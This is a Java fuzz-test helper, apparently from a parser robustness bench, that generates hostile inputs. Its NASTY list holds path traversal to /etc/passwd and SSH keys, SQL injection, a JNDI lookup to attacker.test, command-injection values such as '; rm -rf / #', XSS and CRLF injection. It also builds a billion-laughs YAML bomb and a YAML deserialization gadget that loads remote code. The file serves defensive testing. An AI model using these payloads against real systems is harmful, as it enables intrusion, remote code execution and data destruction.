package dev.handoff.bench.hostile;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * The hostile material every generator draws on: classic strings (traversal, injection, unicode tricks, numbers at
 * their limits, control characters) and seeded mutations of valid text and bytes (truncation, deletion, duplication,
 * insertion, bit flips, invalid UTF-8). Deterministic for a given {@link Random}.
 */
public final class Mutations {
    /** Strings that break parsers, paths, shells, SQL, terminals or logs; used as values, names and ids. */
    public static final List<String> NASTY = List.of(
            "",
            " ",
            "\0",
            "a\0b",
            "..",
            ".",
            "../../etc/passwd",
            "../../../../../../tmp/handoff-escape",
            "/etc/shadow",
            "/",
            "a/../../b",
            "./././../x",
            "..\\..\\windows\\system32",
            "C:\\Windows",
            "\\\\server\\share",
            "~root/.ssh/authorized_keys",
            "link-out/x",
            "' OR '1'='1",
            "\"; DROP TABLE deployment; --",
            "${jndi:ldap://attacker.test/a}",
            "$(touch /tmp/handoff-pwned)",
            "`id`",
            "; rm -rf / #",
            "<script>alert(1)</script>",
            "{{7*7}}",
            "%00",
            "%2e%2e%2f%2e%2e%2f",
            "\u202Egnp.exe",
            "zero\u200Bwidth",
            "\uFEFFbom",
            "\uD800",
            "caf\u00e9",
            "\uFB01le",
            "\uD835\uDD73",
            "line\r\nX-Injected: 1",
            "\u0007\u001b[31mred\u001b[0m",
            "\u0085next\u2028line",
            "-1",
            "0",
            "-0",
            "2147483648",
            "9223372036854775808",
            "-9223372036854775809",
            "1e309",
            "1e-400",
            "NaN",
            "Infinity",
            "0x7fffffff",
            "null",
            "true",
            "~",
            "00000000-0000-0000-0000-000000000000",
            "00000000-0000-0000-0000-00000000000g",
            "6F9619FF-8B86-D011-B42D-00CF4FC964FF",
            "{6f9619ff-8b86-d011-b42d-00cf4fc964ff}",
            "6f9619ff8b86d011b42d00cf4fc964ff",
            "9".repeat(400),
            "x".repeat(70_000));

    private Mutations() {}

    /** One of {@link #NASTY}. */
    public static String nasty(Random random) {
        return NASTY.get(random.nextInt(NASTY.size()));
    }

    /** {@code text} changed in one or a few places, as a careless or hostile edit would. */
    public static String mutate(String text, Random random) {
        String out = text;
        int edits = 1 + random.nextInt(3);
        for (int i = 0; i < edits; i++) {
            out = mutateOnce(out, random);
        }
        return out;
    }

    private static String mutateOnce(String s, Random random) {
        if (s.isEmpty()) {
            return nasty(random);
        }
        int at = random.nextInt(s.length());
        int end = Math.min(s.length(), at + 1 + random.nextInt(Math.max(1, s.length() / 8)));
        return switch (random.nextInt(9)) {
            case 0 -> s.substring(0, at); // truncated
            case 1 -> s.substring(0, at) + s.substring(end); // a range deleted
            case 2 -> s.substring(0, end) + s.substring(at); // a range duplicated
            case 3 -> s.substring(0, at) + nasty(random) + s.substring(at); // a nasty string inserted
            case 4 -> s.substring(0, at) + (char) random.nextInt(0x20) + s.substring(at + 1); // a control character
            case 5 -> s.substring(0, at) + "\uFFFF\uD800" + s.substring(at); // unpaired surrogate, non-character
            case 6 -> swapLines(s, random);
            case 7 -> replaceWord(s, random);
            default -> s.substring(0, at) + s.substring(end) + s.substring(at, end); // a range moved to the end
        };
    }

    private static String swapLines(String s, Random random) {
        List<String> lines = new ArrayList<>(List.of(s.split("\n", -1)));
        if (lines.size() < 2) {
            return s + "\n" + s;
        }
        int a = random.nextInt(lines.size());
        int b = random.nextInt(lines.size());
        String la = lines.get(a);
        lines.set(a, lines.get(b));
        lines.set(b, la);
        return String.join("\n", lines);
    }

    /** A word (run of letters, digits, dashes) replaced by a nasty string, keeping the structure around it. */
    private static String replaceWord(String s, Random random) {
        var words = java.util.regex.Pattern.compile("[A-Za-z0-9_.-]+")
                .matcher(s)
                .results()
                .toList();
        if (words.isEmpty()) {
            return s + nasty(random);
        }
        var w = words.get(random.nextInt(words.size()));
        return s.substring(0, w.start()) + nasty(random) + s.substring(w.end());
    }

    /** {@code bytes} with bit flips, invalid UTF-8 or a truncation. */
    public static byte[] mutate(byte[] bytes, Random random) {
        byte[] out = bytes.clone();
        if (out.length == 0) {
            return new byte[] {(byte) 0xff};
        }
        switch (random.nextInt(4)) {
            case 0 -> {
                for (int i = 0; i < 1 + random.nextInt(8); i++) {
                    out[random.nextInt(out.length)] ^= (byte) (1 << random.nextInt(8));
                }
            }
            case 1 -> out = java.util.Arrays.copyOf(out, random.nextInt(out.length));
            case 2 -> {
                byte[][] invalid = {
                    {(byte) 0xff, (byte) 0xfe},
                    {(byte) 0x80},
                    {(byte) 0xc0, (byte) 0xaf},
                    {(byte) 0xed, (byte) 0xa0, (byte) 0x80},
                    {(byte) 0xf4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
                    {0}
                };
                byte[] bad = invalid[random.nextInt(invalid.length)];
                int at = random.nextInt(out.length);
                byte[] grown = new byte[out.length + bad.length];
                System.arraycopy(out, 0, grown, 0, at);
                System.arraycopy(bad, 0, grown, at, bad.length);
                System.arraycopy(out, at, grown, at + bad.length, out.length - at);
                out = grown;
            }
            default -> {
                int at = random.nextInt(out.length);
                out[at] = (byte) random.nextInt(256);
            }
        }
        return out;
    }

    /** JSON nested {@code depth} deep: arrays, objects, or both. */
    public static String deepJson(int depth, boolean objects) {
        StringBuilder out = new StringBuilder(depth * 8);
        for (int i = 0; i < depth; i++) {
            out.append(objects ? "{\"a\":" : "[");
        }
        out.append("1");
        for (int i = 0; i < depth; i++) {
            out.append(objects ? "}" : "]");
        }
        return out.toString();
    }

    /** YAML nested {@code depth} deep in flow style. */
    public static String deepYaml(int depth) {
        return "a: " + "[".repeat(depth) + "]".repeat(depth) + "\n";
    }

    /** YAML nested {@code depth} deep in block style. */
    public static String deepBlockYaml(int depth) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            out.append("  ".repeat(i)).append("k").append(i).append(":\n");
        }
        out.append("  ".repeat(depth)).append("v: 1\n");
        return out.toString();
    }

    /** The "billion laughs": ten levels of anchors, each alias-expanding the one before nine times. */
    public static String billionLaughs() {
        StringBuilder bomb =
                new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char previous = 'a';
        for (char c = 'b'; c <= 'j'; c++) {
            bomb.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                bomb.append(i == 0 ? "" : ",").append('*').append(previous);
            }
            bomb.append("]\n");
            previous = c;
        }
        return bomb.toString();
    }

    /** A YAML mapping whose key appears twice. */
    public static String duplicateKeyYaml(String valid) {
        int nl = valid.indexOf('\n');
        return nl < 0 ? valid + "\n" + valid : valid + "\n" + valid.substring(0, nl) + "\n";
    }

    /** YAML with a local tag that a careless loader would construct as a Java object. */
    public static final String JAVA_TAG_YAML =
            "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.test/\"]]]]\n";

    /** {@code text} as UTF-8. */
    public static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** The classic whole-document cases every text entry point gets. */
    public static List<Hostile<String>> classicDocuments() {
        List<Hostile<String>> out = new ArrayList<>();
        out.add(new Hostile<>("empty", ""));
        out.add(new Hostile<>("blank", " \n\t\n"));
        out.add(new Hostile<>("NUL bytes", "\0\0\0\0"));
        out.add(new Hostile<>("yaml null", "~\n"));
        out.add(new Hostile<>("json null", "null"));
        out.add(new Hostile<>("scalar", "hello"));
        out.add(new Hostile<>("number", "12345678901234567890123456789"));
        out.add(new Hostile<>("list", "- a\n- b\n"));
        out.add(new Hostile<>("json array", "[1,2,3]"));
        out.add(new Hostile<>("empty object", "{}"));
        out.add(new Hostile<>("unterminated", "{\"a\": [1, 2"));
        out.add(new Hostile<>("unterminated string", "a: \"never closed\n"));
        out.add(new Hostile<>("tab indentation", "a:\n\tb: 1\n"));
        out.add(new Hostile<>("billion laughs", billionLaughs()));
        out.add(new Hostile<>("single alias", "a: &x {b: 1}\nc: *x\n"));
        out.add(new Hostile<>("merge key", "base: &b {x: 1}\nderived:\n  <<: *b\n  y: 2\n"));
        out.add(new Hostile<>("java tag", JAVA_TAG_YAML));
        out.add(new Hostile<>("deep flow yaml 200", deepYaml(200)));
        out.add(new Hostile<>("deep flow yaml 20000", deepYaml(20_000)));
        out.add(new Hostile<>("deep block yaml 300", deepBlockYaml(300)));
        out.add(new Hostile<>("deep json arrays 5000", deepJson(5000, false)));
        out.add(new Hostile<>("deep json objects 5000", deepJson(5000, true)));
        out.add(new Hostile<>("deep json arrays 100000", deepJson(100_000, false)));
        out.add(new Hostile<>("duplicate keys", "a: 1\nb: 2\na: 3\n"));
        out.add(new Hostile<>("duplicate json keys", "{\"a\": 1, \"a\": 2}"));
        out.add(new Hostile<>("huge key", "k".repeat(200_000) + ": v\n"));
        out.add(new Hostile<>("huge value", "a: " + "v".repeat(2_000_000) + "\n"));
        out.add(new Hostile<>("many keys", manyKeys(100_000)));
        out.add(new Hostile<>("many documents", "---\na: 1\n".repeat(20_000)));
        out.add(new Hostile<>("long line of commas", "a: [" + "1,".repeat(300_000) + "1]\n"));
        out.add(new Hostile<>("BOM", "\uFEFFa: 1\n"));
        out.add(new Hostile<>("RTL override key", "\u202Ea: 1\n"));
        out.add(new Hostile<>("lone surrogate", "a: \uD800\n"));
        out.add(new Hostile<>("control characters", "a: \u0001\u0002\u001b[2J\n"));
        out.add(new Hostile<>("CRLF", "a: 1\r\nb: 2\r\n"));
        out.add(new Hostile<>("binary", new String(new char[] {0xfffe, 0xffff, 0x7f, 0x00, 0x1b})));
        return out;
    }

    private static String manyKeys(int n) {
        StringBuilder out = new StringBuilder(n * 12);
        for (int i = 0; i < n; i++) {
            out.append('k').append(i).append(": ").append(i).append('\n');
        }
        return out.toString();
    }
}
